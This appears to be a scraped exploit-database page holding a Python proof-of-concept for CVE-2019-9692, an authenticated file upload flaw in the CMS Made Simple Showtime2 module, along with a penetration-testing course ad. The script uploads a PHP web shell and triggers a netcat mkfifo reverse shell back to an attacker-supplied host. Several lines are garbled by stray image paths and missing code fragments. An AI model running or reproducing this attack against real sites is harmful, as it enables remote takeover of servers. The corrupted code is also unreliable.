CMS Made Simple Showtime2 Module 3.6.2 - (Authenticated) Arbitrary File Upload







Become a Certified Penetration TesterEnroll in Penetration Testing with Kali Linux and pass the exam to become an Offensive Security Certified Professional (OSCP). All new content for 2020.


#!/usr/bin/env python
# Exploit Title: CMS Made Simple (authenticated) arbitrary file upload in Showtime2 module
# Date: March 2019
# Exploit Author: Daniele Scanu @ Certimeter Group
# Vendor Homepage:
# Software Link:
# Version: Showtime2 module <= 3.6.2
# Tested on: CMS Made Simple 2.2.8 in Ubuntu 18.04
# CVE : 2019-9692

import requests
import optparse
from requests_toolbelt.multipart.encoder import MultipartEncoder

parser = optparse.OptionParser()
parser.add_option('-u', '--url', action="store", dest="url", help="Base target uri (ex.")parser.add_option('-U', '--username', action="store", dest="username", help="Username for login", default="admin")
parser.add_option('-P', '--password', action="store", dest="password", help="Password for login", default="password")
parser.add_option('-l', '--local', action="store", dest="local", help="Local uri for reverse shell", default="localhost")
parser.add_option('-p', '--port', action="store", dest="port", help="Local portfor reverse shell", default="2222")
options, args = parser.parse_args()

if not options.url:
    print "[-] Specify an uri target"

if not options.username:
    print "[-] Specify an username for login in administrator panel"

if not options.password:
    print "[-] Specify a password for login in administrator panel"

base_uri = options.url
url_login = base_uri +"/admin/login.php"
user = options.username
password = options.password
session = requests.Session()
__c_var = ""
lhost = options.local
lport = options.port

# Login in administrator panel for get the csrf token
def login(username, password):
    print "[*] Login to cms"
    global __c_var
    credentials = {"username": username, "password": password, "loginsubmit": "Submit"}
    response =, data=credentials, allow_redirects=False)
    __c_var = response.headers['Location'].split("__c=")[1]
    print "[*] Token value: " + __c_var

# upload a php script with reverse shell in vulnerable functionality
def upload_shell():
    print "[*] Uploading webshell"
    multipart_data =MultipartEncoder(
        fields = {
            'm1_input_browse': ('shell.php',"<?php system($_REQUEST['cmd']); ?>", 'text/plain'),
            '__c': __c_var,
            'mact': 'Showtime2,m1_,defaultadmin,0',
            'm1_upload_submit': 'Upload'
    response = + '/admin/moduleinterface.php', data=multipart_data,
                      headers={'Content-Type': multipart_data.content_type})

# Call the script uploaded for spawn a reverse shell
def spawn_shell():
    print "[*] Spawn a shell to " + lhost + ":" + str(lport)
    payload = {"cmd": "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc " + lhost + " " + str(lport) + " >/tmp/f"} + "/uploads/images/shell.php",data=payload)

login(user, password)